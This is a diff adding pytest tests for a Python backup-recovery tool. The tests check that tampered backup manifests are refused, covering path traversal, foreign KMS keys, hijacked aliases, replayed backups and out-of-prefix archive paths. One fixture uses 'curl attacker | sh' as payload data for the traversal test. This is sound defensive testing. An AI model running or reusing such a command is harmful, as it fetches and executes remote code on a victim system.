@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import hashlib
 import json
 import os
@@ -16,10 +17,11 @@ from moto import mock_aws
 
 from bootstrap.aws import environments, ssm
 from bootstrap.aws.api import Api
-from bootstrap.config.model import Backup, Environment, Generate, Seed
+from bootstrap.config.model import Archive, Backup, Environment, Generate, Seed
 from bootstrap.core.clock import FakeClock
 from bootstrap.core.errors import PermanentError, PreflightError
 from bootstrap.local.aws.patches import bucket_policies
+from bootstrap.recovery import manifest
 from bootstrap.recovery.etcd import Wait
 from bootstrap.recovery.keys import FileKey, KmsKey
 from bootstrap.recovery.manifest import Consent, EtcdStatus, Manifest
@@ -317,3 +319,92 @@ def test_the_configuration_says_whose_key(tmp_path: Path) -> None:
     assert key(config, backup_key=file) == FileKey(file)
     named = replace(config, backup=Backup(key_file=tmp_path / "mine"))
     assert key(named, backup_key=file) == FileKey(tmp_path / "mine")
+
+
+# -- a backup that somebody has tampered with -----------------------------------------------------------
+
+
+def bent(change: Callable[[dict[str, Any]], object]) -> None:
+    """Its manifest says something else now."""
+
+    def bend(content: bytes) -> bytes:
+        plain = json.loads(content)
+        change(plain)
+        return json.dumps(plain).encode()
+
+    damage("manifest.json", bend)
+
+
+@pytest.mark.parametrize("relative", [True, False])
+def test_no_part_is_written_outside_of_the_runs_folder(
+    tmp_path: Path, emptied: World, relative: bool
+) -> None:
+    victim, evil = tmp_path / "victim", b"curl attacker | sh"
+    victim.write_text("mine")
+    id_, folder = check(emptied).manifest.id, emptied.context.run_folder / "backup"
+    name = os.path.relpath(victim, folder) if relative else str(victim)
+    client("s3").put_object(Bucket=BUCKET, Key=f"dev/{id_}/{name}", Body=evil)
+    part = {"name": name, "sha256": hashlib.sha256(evil).hexdigest(), "size": len(evil)}
+    bent(lambda plain: plain["parts"].append(part))
+    assert "names a part" in refusal(emptied)
+    assert victim.read_text() == "mine"
+
+
+def test_a_key_that_is_not_the_vaults_opens_nothing(emptied: World) -> None:
+    """One of the attacker's, open to us: whatever they made up would decrypt."""
+    theirs = client("kms").create_key()["KeyMetadata"]
+    about = check(emptied).manifest
+    made = client("kms").generate_data_key(
+        KeyId=theirs["Arn"], KeySpec="AES_256", EncryptionContext=about.bound
+    )
+    wrapped = {"key": theirs["Arn"], "data_key": base64.b64encode(made["CiphertextBlob"]).decode()}
+    bent(lambda plain: plain["key"].update(wrapped))
+    before = set(emptied.context.run_folder.rglob("*"))
+    assert "names another key than alias/eco2-dev-backups" in refusal(emptied)
+    assert set(emptied.context.run_folder.rglob("*")) == before, "nothing was fetched"
+
+
+def test_a_key_of_our_alias_in_other_hands_is_not_used(emptied: World) -> None:
+    theirs = client("kms").create_key()["KeyMetadata"]
+    client("kms").update_alias(AliasName="alias/eco2-dev-backups", TargetKeyId=theirs["KeyId"])
+    assert "alias/eco2-dev-backups is not ours" in refusal(emptied)
+    with pytest.raises(PermanentError, match="is not ours"):
+        take(a_world(emptied.context.config.home, now=1_900_000_000.0))
+
+
+@pytest.mark.parametrize("data_key", ["", "?", "AAAA", None])
+def test_a_data_key_that_is_none_is_refused(emptied: World, data_key: object) -> None:
+    bent(lambda plain: plain["key"].update(data_key=data_key))
+    assert "nothing was touched" in refusal(emptied)
+
+
+def test_an_old_backup_under_a_new_id_is_not_the_newest(emptied: World) -> None:
+    id_ = check(emptied).manifest.id
+    old = client("s3").get_object(Bucket=BUCKET, Key=f"dev/{id_}/manifest.json")["Body"].read()
+    client("s3").put_object(Bucket=BUCKET, Key="dev/20280101T000000Z/manifest.json", Body=old)
+    assert f"backup 20280101T000000Z cannot be opened. its manifest is that of backup '{id_}'" in refusal(
+        emptied
+    )
+
+
+def test_what_is_larger_than_a_backup_can_be_is_not_read(
+    emptied: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(manifest, "LONGEST", 100)
+    assert "at most 100 are read" in refusal(emptied)
+
+
+def test_a_part_that_has_grown_is_not_fetched(emptied: World) -> None:
+    damage("seeds.json", lambda content: content + b"x" * 4096)
+    assert "written were" in refusal(emptied)
+    assert not [file for file in emptied.context.run_folder.rglob("seeds.json") if file.stat().st_size > 4096]
+
+
+def test_databases_come_from_no_other_place_than_the_configured_one(tmp_path: Path, emptied: World) -> None:
+    config = replace(emptied.context.config, archive=Archive("archive"))
+    here = World(replace(emptied.context, config=config), emptied.events)
+    bent(lambda plain: plain.update(archive="attacker/databases/eco2/dev/20250101T000000Z"))
+    assert "which is not below archive/databases/eco2/dev" in refusal(here)
+    assert check(here, consent=Consent(account=True)).manifest.archive.startswith("attacker/")
+    bent(lambda plain: plain.update(archive="archive/databases/eco2/dev/20250101T000000Z"))
+    assert check(here).manifest.archive.startswith("archive/")
